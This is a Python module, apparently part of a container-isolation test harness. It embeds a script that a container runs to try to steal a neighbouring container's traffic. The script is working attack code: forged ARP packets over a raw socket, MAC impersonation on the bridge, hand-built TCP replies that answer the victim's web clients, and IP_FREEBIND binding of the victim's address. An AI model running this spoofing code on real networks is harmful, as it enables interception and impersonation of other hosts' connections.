"""Code inside a container that wants the visitors of its neighbour. It has what its container has and nothing of ours.

`arp` says that the neighbour's address is at its own MAC; `mac` says that the neighbour's MAC is at its own port of the
bridge. Both then answer what arrives for the neighbour, as a web server would. `host` tells the neighbour that this host is at
its own MAC, and takes the answers. The text is run inside the container.
"""

from __future__ import annotations

CODE = r'''
import json, socket, struct, sys, time

way, victim, victim_mac, host, seconds = sys.argv[1:6]
told = {"refused": "", "sent": 0, "stolen": 0}
VICTIM, HOST = socket.inet_aton(victim), socket.inet_aton(host)
OWN = next(bytes.fromhex(open(f"/sys/class/net/{name}/address").read().strip().replace(":", ""))
           for name in ("eth0",))
THEIRS = bytes.fromhex(victim_mac.replace(":", ""))
EVERYBODY = b"\xff" * 6
PAGE = b"HTTP/1.1 200 OK\r\nX-Version: stolen\r\nContent-Length: 6\r\nConnection: close\r\n\r\nstolen"


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def claim(wire):
    mac = THEIRS if way == "mac" else OWN
    to, whose, whom = (THEIRS, HOST, VICTIM) if way == "host" else (EVERYBODY, VICTIM, HOST)
    for operation in (1, 2):  # asked and answered: who believes one of them believes us
        wire.send(to + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + mac + whose + to + whom)
        told["sent"] += 1


def answer(wire, frame):
    """Answer one TCP segment for the neighbour, as far as a visitor needs it."""
    if way == "host" and frame[12:14] == b"\x08\x00" and frame[26:34] == VICTIM + HOST:
        told["stolen"] += 1
    if frame[12:14] != b"\x08\x00" or frame[30:34] != VICTIM or frame[23] != 6:
        return
    told["stolen"] += 1
    head = (frame[14] & 15) * 4
    tcp = frame[14 + head:]
    source, port, seq, ack, offset, flags = struct.unpack("!HHIIBB", tcp[:14])
    size = struct.unpack("!H", frame[16:18])[0] - head - (offset >> 4) * 4
    if flags & 2:
        reply(wire, frame, port, source, 1000, seq + 1, 0x12, b"")
    elif size > 0:
        reply(wire, frame, port, source, ack, seq + size, 0x19, PAGE)


def reply(wire, frame, port, to, seq, ack, flags, data):
    tcp = struct.pack("!HHIIBBHHH", port, to, seq & 0xffffffff, ack & 0xffffffff, 0x50, flags, 64000, 0, 0) + data
    about = VICTIM + frame[26:30] + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(about + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0) + VICTIM + frame[26:30]
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    wire.send(frame[6:12] + (THEIRS if way == "mac" else OWN) + b"\x08\x00" + ip + tcp)


def others():
    """What needs no raw socket: the neighbour's address as one's own."""
    with socket.socket() as plain:
        plain.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND: bind to an address that is not there
        plain.bind((victim, 8080))
        plain.listen()
        plain.settimeout(float(seconds))
        plain.accept()
        told["stolen"] += 1


try:
    if way == "freebind":
        others()
    else:
        wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
        wire.bind(("eth0", 0))
        wire.settimeout(0.002)
        end, last = time.monotonic() + float(seconds), 0.0
        while time.monotonic() < end:
            if time.monotonic() - last > 0.01:
                claim(wire)
                last = time.monotonic()
            try:
                answer(wire, wire.recv(65535))
            except TimeoutError:
                pass
except OSError as e:
    told["refused"] = f"{type(e).__name__}: {e}"
print(json.dumps(told), flush=True)
'''
